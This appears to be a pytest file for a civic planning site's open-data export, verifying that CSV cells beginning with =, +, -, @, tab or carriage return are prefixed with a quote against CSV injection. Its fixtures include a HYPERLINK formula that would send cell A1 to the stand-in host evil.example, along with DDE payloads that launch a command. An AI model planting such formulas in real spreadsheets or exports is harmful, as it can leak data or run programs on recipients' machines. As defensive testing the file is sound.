"""The open data CSV cannot run as a formula in a spreadsheet (OWASP's "CSV injection"), while
the JSON keeps the exact text."""
from __future__ import annotations

import csv
import io
import json
import shutil
from types import SimpleNamespace

import pytest

from conftest import FIXTURE
from plansite.checks.site_data import load_site_data
from plansite.outputs.open_data import dataset_csv, spreadsheet_safe, write_open_data

HOSTILE = {
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "negative number as text": "-5",
    "figure with thousands": "-1,234.5",
    "percentage": "+3.3%",
    "plain text": "Julia Ross",
    "dash in the middle": "North - South",
}
SAFE = {
    "formula": "'" + HOSTILE["formula"],
    "plus": "'" + HOSTILE["plus"],
    "minus": "'-2+3",
    "at": "'" + HOSTILE["at"],
    "tab": "'\t=1+1",
    "carriage return": "'\r=1+1",
    "negative number as text": "-5",
    "figure with thousands": "-1,234.5",
    "percentage": "+3.3%",
    "plain text": "Julia Ross",
    "dash in the middle": "North - South",
}


@pytest.mark.parametrize("case", HOSTILE, ids=list(HOSTILE))
def test_spreadsheet_safe(case):
    assert spreadsheet_safe(HOSTILE[case]) == SAFE[case]


class Dataset:
    """Stands in for a validated model: only its JSON form is written."""

    def __init__(self, data):
        self.data = data

    def model_dump(self, mode: str):
        return self.data


def read_back(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_every_cell_of_a_dataset_is_neutralised_and_numbers_stay_numbers(tmp_path):
    records = [
        {"id": f"r{n}", "name": value, "count": -5, "tags": [value, "x"],
         "source": {"document": "=doc", "section": "@s"}}
        for n, value in enumerate(HOSTILE.values())
    ]
    site = SimpleNamespace(models={"people": Dataset({"people": records})})
    write_open_data(site, tmp_path)
    with (tmp_path / "people.csv").open(encoding="utf-8", newline="") as written:  # keep the \r in a cell
        rows = read_back(written.read())
    assert [row["name"] for row in rows] == list(SAFE.values())
    assert {row["count"] for row in rows} == {"-5"}  # a number is written as the number
    assert rows[0]["tags"] == "'" + HOSTILE["formula"] + "; x"
    assert {(row["source_document"], row["source_section"]) for row in rows} == {("'=doc", "'@s")}
    # The JSON keeps the exact text, tabs and carriage returns too.
    published = json.loads((tmp_path / "people.json").read_text(encoding="utf-8"))
    assert [record["name"] for record in published["people"]] == list(HOSTILE.values())
    assert published["people"][0]["source"] == {"document": "=doc", "section": "@s"}


def test_real_data_with_a_formula_in_it(tmp_path):
    """Through the real reader and models: a name written as a formula in people.yaml."""
    data = tmp_path / "data"
    shutil.copytree(FIXTURE / "data", data)
    people = data / "people.yaml"
    text = people.read_text(encoding="utf-8")
    people.write_text(text.replace("name: Julia Ross", "name: '=HYPERLINK(\"https://evil.example\",\"Julia Ross\")'", 1),
                      encoding="utf-8")
    site = load_site_data(data)
    rows = read_back(dataset_csv(site, "people"))
    julia = next(row for row in rows if row["id"] == "julia-ross")
    assert julia["name"] == "'=HYPERLINK(\"https://evil.example\",\"Julia Ross\")"
    assert julia["source_section"] == "Cover page"
    write_open_data(site, tmp_path / "out")
    published = json.loads((tmp_path / "out" / "people.json").read_text(encoding="utf-8"))
    assert published["people"][0]["name"] == "=HYPERLINK(\"https://evil.example\",\"Julia Ross\")"


def test_the_open_data_page_says_so(site_data):
    from plansite.render.renderer import Renderer

    html = str(Renderer(site_data).open_data())
    assert ("<p>So that spreadsheet programs show every CSV cell as text and never run it as a formula, a cell "
            "that starts with <code>=</code>, <code>+</code>, <code>-</code>, <code>@</code>, a tab or a carriage "
            "return has a <code>'</code> added in front (plain numbers such as <code>-5</code> are left as they "
            "are); the JSON files keep the exact text.</p>") in html
